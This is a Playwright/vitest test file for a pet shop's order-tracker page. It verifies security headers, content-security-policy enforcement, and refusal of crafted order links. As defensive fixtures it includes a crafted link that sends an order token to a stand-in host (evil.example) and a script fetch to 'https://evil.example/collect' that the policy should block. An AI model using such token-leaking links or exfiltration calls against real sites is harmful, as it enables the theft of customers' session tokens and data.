/**
 * The page trusts only its shop (issue 23, point 3), in Chromium against `npm start`'s runtime:
 * every response of the site carries core's security headers, the page works under them with no
 * policy violation, and an order link to another server is refused, opens nothing and is stored
 * nowhere — as is an order of another server that an older page stored.
 */
import * as SiteHeaders from "@awsomepets/core/platform/site-headers";
import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { REFUSED_LINK_TEXT } from "../src/order-link";
import { STORAGE_KEY } from "../src/storage";
import { chromiumMissing, warnIfChromiumMissing, watchPolicyViolations } from "./support/browser";
import { usePageSession } from "./support/page-session";
import { openTracker, placeFailurePath, placeOrder, shownStatuses, waitForTerminal } from "./support/tracker-page";

warnIfChromiumMissing("order tracker page: trusts only its shop");

const ORDER_ID = "3f0c6a4e-8b1d-4c2a-9e57-1d2b3c4d5e6f";
const EVIL = "evil.example";
const evilCallback = `wss://${EVIL}/?orderId=${ORDER_ID}&token=1900000000.abc`;

describe.skipIf(chromiumMissing)("order tracker page: trusts only its shop", () => {
  const session = usePageSession();
  const options = { viewport: { width: 1200, height: 900 }, locale: "en-GB", timezoneId: "UTC" };
  const expectedHeaders = () =>
    SiteHeaders.siteHeaders({
      api: "self",
      websocket: SiteHeaders.originOf(session.runtime.state.endpoints.websocket),
    });

  /** Every socket the page opens and every request it makes that is not to the local runtime. */
  const watchTraffic = (page: Page) => {
    const sockets: string[] = [];
    const foreign: string[] = [];
    page.on("websocket", (socket) => void sockets.push(socket.url()));
    page.on(
      "request",
      (request) => void (new URL(request.url()).hostname !== "127.0.0.1" && foreign.push(request.url())),
    );
    return { sockets, foreign };
  };

  it("sends core's security headers on every response of the site, a 404 included", async () => {
    const expected = expectedHeaders();
    expect(expected["content-security-policy"]).toContain(
      `connect-src 'self' ${SiteHeaders.originOf(session.runtime.state.endpoints.websocket)};`,
    );
    for (const [path, status] of [
      ["/", 200],
      ["/app.js", 200],
      ["/styles.css", 200],
      ["/no-such-page", 404],
    ] as const) {
      const response = await fetch(new URL(path, session.runtime.url));
      expect(response.status, path).toBe(status);
      for (const [name, value] of Object.entries(expected))
        expect(response.headers.get(name), `${path} ${name}`).toBe(value);
    }
  });

  it("works under them: an order and a failure path followed to their end with no policy violation or console error", async () => {
    // Prepare
    const page = await session.freshPage(options);
    const violations = await watchPolicyViolations(page);
    // Act
    await openTracker(page, session.runtime.url);
    const orderId = await (await placeOrder(page)).getAttribute("data-order-id");
    const card = page.locator(`.order-card[data-order-id="${orderId}"]`);
    await waitForTerminal(card);
    await waitForTerminal(await placeFailurePath(page, /^Declined card$/));
    await page.reload();
    await waitForTerminal(card);
    // Assess
    await expect
      .poll(() => shownStatuses(card), { timeout: 15_000 })
      .toEqual(["placed", "reserved", "paid", "completed"]);
    expect(violations()).toEqual([]);
    // The watcher hears a violation when there is one: the policy stops a script sending what it read elsewhere.
    await page.evaluate((url) => fetch(url).catch(() => undefined), `https://${EVIL}/collect`);
    await expect
      .poll(() => violations(), { timeout: 5_000 })
      .toContainEqual(expect.stringMatching(new RegExp(`^csp: connect-src blocked https://${EVIL}/collect`)));
  }, 60_000); // two orders to their end and a reload, on two shared cores

  it("refuses an order link to another server with a sentence for the customer, opens nothing there and stores nothing", async () => {
    // Prepare
    const page = await session.freshPage(options);
    const traffic = watchTraffic(page);
    await openTracker(page, session.runtime.url);
    // Act: the crafted link of the issue, opened in the shop's own page
    await page.goto(`${session.runtime.url}/#order=${encodeURIComponent(evilCallback)}`);
    await page.getByLabel(/Labrador puppy/).waitFor();
    // Assess
    const refusal = page.getByRole("alert").filter({ hasText: REFUSED_LINK_TEXT });
    await refusal.waitFor();
    expect(await refusal.isVisible()).toBe(true);
    expect(await page.locator(".order-card").count()).toBe(0);
    expect(new URL(page.url()).hash).toBe(""); // a reload does not refuse it again, and no token stays in the address bar
    expect((await page.evaluate((key) => localStorage.getItem(key), STORAGE_KEY)) ?? "[]").toBe("[]");
    expect(
      await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage })),
    ).not.toContain(EVIL);
    expect(traffic.sockets).toEqual([]);
    expect(traffic.foreign).toEqual([]);

    // Act: the page's own link of the same order still opens (the refusal is about the server, not the order)
    const placed = await placeOrder(page);
    const link = (await placed.getByRole("link", { name: /^Link to order/ }).getAttribute("href"))!;
    await page.goto(link);
    // Assess: no refusal shown for it
    await page.locator(".order-card").first().waitFor();
    expect(await page.locator("#link-error").isHidden()).toBe(true);
    expect(traffic.sockets.every((url) => url.startsWith(session.runtime.state.endpoints.websocket))).toBe(true);
  });

  it("moves, on load, an order of another server that an older page stored onto the stage's URL, without its address, and never connects to that server", async () => {
    // Prepare: what the page before this one kept after following the crafted link, next to a real order
    const page = await session.freshPage(options);
    const traffic = watchTraffic(page);
    await openTracker(page, session.runtime.url);
    const real = await placeOrder(page);
    const realId = await real.getAttribute("data-order-id");
    await waitForTerminal(real);
    await page.evaluate(
      ([key, callback, orderId]) => {
        const kept = JSON.parse(localStorage.getItem(key!) ?? "[]");
        const address = {
          name: "Ana Silva",
          line1: "1 Rua Augusta",
          city: "Lisboa",
          postalCode: "1100-048",
          country: "PT",
        };
        kept.push({
          orderId,
          clientCallbackUrl: callback,
          addedAt: new Date().toISOString(),
          statuses: [],
          fromApi: [],
          summary: { basket: [], shippingAddress: address },
        });
        localStorage.setItem(key!, JSON.stringify(kept));
      },
      [STORAGE_KEY, evilCallback, ORDER_ID],
    );
    // Act
    await page.reload();
    await waitForTerminal(page.locator(`.order-card[data-order-id="${realId}"]`));
    // Assess
    // The other server's order is followed on the stage's own API, where its token is what is checked.
    expect(
      (
        await page.locator(".order-card").evaluateAll((cards) => cards.map((c) => (c as HTMLElement).dataset.orderId))
      ).sort(),
    ).toEqual([realId, ORDER_ID].sort());
    expect(traffic.sockets.every((url) => url.startsWith(session.runtime.state.endpoints.websocket))).toBe(true);
    const stored = (await page.evaluate((key) => localStorage.getItem(key), STORAGE_KEY))!;
    expect(stored).not.toContain(EVIL);
    expect(stored).not.toMatch(/Ana Silva|Rua Augusta|Lisboa|1100-048/); // the real order's address is not kept either
    expect(JSON.parse(stored)[0].summary.country).toBe("PT");
    expect(await page.locator(`.order-card[data-order-id="${realId}"] .summary .destination`).textContent()).toBe(
      "Ships to Portugal",
    );
    expect(traffic.sockets.filter((url) => url.includes(EVIL))).toEqual([]);
    expect(traffic.foreign).toEqual([]);
  });
});
